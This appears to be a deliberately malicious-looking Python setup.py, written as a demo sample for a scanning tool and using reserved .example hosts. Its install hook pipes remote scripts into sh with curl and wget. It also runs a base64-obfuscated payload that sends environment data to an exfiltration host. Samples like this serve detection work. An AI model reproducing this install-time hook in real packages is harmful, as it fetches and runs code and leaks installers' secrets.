# A malicious-LOOKING sample for batlehub's demo, made inert: the hosts are reserved
# .example names. The shape is that of real PyPI malware: code run at install time that
# fetches and runs a script, and an obfuscated payload executed from base64.
import base64
import os
import subprocess

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -s https://payload.evil.example/stage2.sh | sh")
        exec(base64.b64decode("aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdDsgdXJsbGliLnJlcXVlc3QudXJsb3BlbigiaHR0cHM6Ly9leGZpbC5ldmlsLmV4YW1wbGUvYz8iICsgIiYiLmpvaW4ob3MuZW52aXJvbikp"))
        subprocess.Popen(["/bin/sh", "-c", "wget -q -O- http://payload.evil.example/s | sh"])


setup(
    name="evil_setup",
    version="0.1.0",
    packages=["evil_setup"],
    cmdclass={"install": PostInstall},
)
